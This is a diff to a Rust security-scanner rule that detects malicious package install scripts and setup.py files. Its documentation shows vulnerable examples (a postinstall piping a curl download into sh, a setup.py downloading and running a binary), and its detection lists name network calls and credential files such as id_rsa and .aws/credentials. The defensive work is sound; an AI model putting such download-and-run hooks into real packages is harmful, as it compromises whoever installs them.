@@ -1,17 +1,31 @@
-use super::place;
+use super::{line_of, place};
 use hub_engine::{Context, Findings, Rule, declare_rule};
 use hub_model::{Confidence, Severity};
 
 declare_rule! {
     /// ## What it finds
-    /// A script that runs while the package is installed (`preinstall`, `install`, `postinstall`) and does more than build it: fetches and
-    /// runs code, runs code given on its command line, or reads what is private.
+    /// Code that runs while the package is installed and does more than build it: a script of the manifest (`preinstall`, `install`,
+    /// `postinstall`), the file that such a script starts, or a `setup.py`, that fetches and runs code, runs code given on its command line, or
+    /// reads what is private and reaches the network.
     /// ## Why it matters
     /// Installing is enough to run it, before anyone looks at a tool; it is where most malicious packages act.
     /// ## How to fix it
     /// Do the work when the package is built, and ship the result; install with scripts switched off.
     /// ```package.json vulnerable
     /// {"name": "example", "version": "1.0.0", "scripts": {"postinstall": "curl -s https://files.example.net/setup.sh | sh"}}
+    /// ```
+    /// ```setup.py vulnerable
+    /// import os, urllib.request
+    /// from setuptools import setup
+    /// urllib.request.urlretrieve("https://files.example.net/agent", "/tmp/agent")
+    /// os.system("chmod +x /tmp/agent && /tmp/agent")
+    /// setup(name="example")
+    /// ```
+    /// ```setup.py safe
+    /// import subprocess
+    /// from setuptools import setup
+    /// version = subprocess.check_output(["git", "describe"], text=True)
+    /// setup(name="example", version=version, url="https://github.com/example/example")
     /// ```
     /// ```package.json safe
     /// {"name": "example", "version": "1.0.0", "scripts": {"build": "tsc", "prepare": "npm run build", "postinstall": "node-gyp rebuild"}}
@@ -29,28 +43,46 @@ declare_rule! {
 impl Rule for InstallScript {
     fn check(&self, cx: &Context<'_>, out: &mut Findings) {
         let Some(snapshot) = cx.snapshot else { return };
+        for file in snapshot
+            .files
+            .iter()
+            .filter(|f| f.path.file_name() == "setup.py" && !is_apart(&f.path))
+        {
+            if let Some((what, severity)) = judge_file(&file.text) {
+                out.report(Self::META)
+                    .at(place(&file.path, 1))
+                    .evidence("setup.py")
+                    .title(format!("`{}` {what}", file.path))
+                    .severity(severity)
+                    .confidence(Confidence::Medium)
+                    .key("setup.py")
+                    .add();
+            }
+        }
         for file in snapshot.files.iter().filter(|f| f.path.file_name() == "package.json") {
-            let apart = file
-                .path
-                .as_str()
-                .split('/')
-                .any(|p| matches!(p, "test" | "tests" | "examples" | "fixtures" | "node_modules"));
             let Ok(json) = serde_json::from_str::<serde_json::Value>(&file.text) else {
                 continue;
             };
-            if apart {
+            if is_apart(&file.path) {
                 continue;
             }
             for hook in ["preinstall", "install", "postinstall"] {
                 let Some(command) = json.get("scripts").and_then(|s| s.get(hook)).and_then(serde_json::Value::as_str) else {
                     continue;
                 };
-                let Some((what, severity)) = judge(command) else { continue };
-                let line = file
-                    .text
-                    .lines()
-                    .position(|l| l.contains(&format!("\"{hook}\"")))
-                    .map_or(1, |i| u32::try_from(i + 1).unwrap_or(1));
+                let started = started_file(command).map(|name| match file.path.parent() {
+                    "" => name.to_owned(),
+                    parent => format!("{parent}/{name}"),
+                });
+                let started = started.and_then(|path| snapshot.files.iter().find(|f| f.path.as_str() == path));
+                let by_file = || {
+                    let started = started?;
+                    let (what, severity) = judge_file(&started.text)?;
+                    Some((format!("starts `{}`, which {what}", started.path), severity))
+                };
+                let own = judge(command).map(|(what, severity)| (what.to_owned(), severity));
+                let Some((what, severity)) = own.or_else(by_file) else { continue };
+                let line = line_of(&file.text, &format!("\"{hook}\""));
                 out.report(Self::META)
                     .at(place(&file.path, line))
                     .evidence(format!("\"{hook}\": \"{command}\""))
@@ -89,4 +121,82 @@ fn judge(command: &str) -> Option<(&'static str, Severity)> {
         return Some(("downloads something", Severity::Low));
     }
     None
+}
+
+fn is_apart(path: &hub_model::RelPath) -> bool {
+    path.as_str()
+        .split('/')
+        .any(|p| matches!(p, "test" | "tests" | "examples" | "fixtures" | "node_modules"))
+}
+
+/// The file of the package that a command starts: `node scripts/x.js`, `python setup/x.py`, `sh ./x.sh`.
+fn started_file(command: &str) -> Option<&str> {
+    let mut words = command.split([' ', ';', '&', '|']).filter(|w| !w.is_empty());
+    while let Some(word) = words.next() {
+        if matches!(word, "node" | "python" | "python3" | "sh" | "bash" | "bun" | "tsx") {
+            return words.next().filter(|w| !w.starts_with('-')).map(|w| w.trim_start_matches("./"));
+        }
+    }
+    None
+}
+
+/// What a file that runs at installation does beside building: by the words of its libraries, comments left out.
+fn judge_file(text: &str) -> Option<(&'static str, Severity)> {
+    let code: Vec<&str> = text
+        .lines()
+        .take(20_000)
+        .filter(|l| !l.trim_start().starts_with(['#', '*']) && !l.trim_start().starts_with("//"))
+        .collect();
+    let has = |words: &[&str]| code.iter().any(|l| words.iter().any(|w| l.contains(w)));
+    let fetches = has(&[
+        "fetch(",
+        "https.get(",
+        "http.get(",
+        "https.request(",
+        "axios.",
+        "axios(",
+        "got(",
+        "urlopen(",
+        "urlretrieve(",
+        "requests.get(",
+        "requests.post(",
+        "httpx.",
+        "socket.socket(",
+        "curl ",
+        "wget ",
+        "net.connect(",
+        "net.Socket(",
+        "dns.lookup(",
+        "dns.resolve",
+    ]);
+    let runs = has(&[
+        "exec(",
+        "execSync(",
+        "spawn(",
+        "spawnSync(",
+        "execFile",
+        "os.system(",
+        "subprocess.",
+        "os.popen(",
+        "eval(",
+        "exec_module(",
+    ]);
+    let private = has(&[
+        "JSON.stringify(process.env",
+        "Object.entries(process.env",
+        "Object.keys(process.env",
+        "dict(os.environ",
+        "os.environ.items(",
+        ".npmrc",
+        ".ssh/",
+        "id_rsa",
+        ".aws/credentials",
+        ".git-credentials",
+        "/etc/passwd",
+    ]);
+    match (fetches, runs, private) {
+        (true, _, true) => Some(("reads what is private and reaches the network", Severity::Medium)),
+        (true, true, false) => Some(("reaches the network and runs programs", Severity::Low)),
+        _ => None,
+    }
 }
